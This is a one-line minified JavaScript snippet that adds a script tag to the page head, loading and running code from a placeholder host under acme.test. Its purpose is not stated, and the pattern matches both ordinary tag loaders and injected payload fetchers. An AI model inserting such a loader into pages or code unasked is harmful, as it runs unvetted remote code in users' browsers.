(()=>{var t="b47.acme.test",e=document.createElement("script");e.src="https://"+t+"/s.js";document.head.appendChild(e);})();
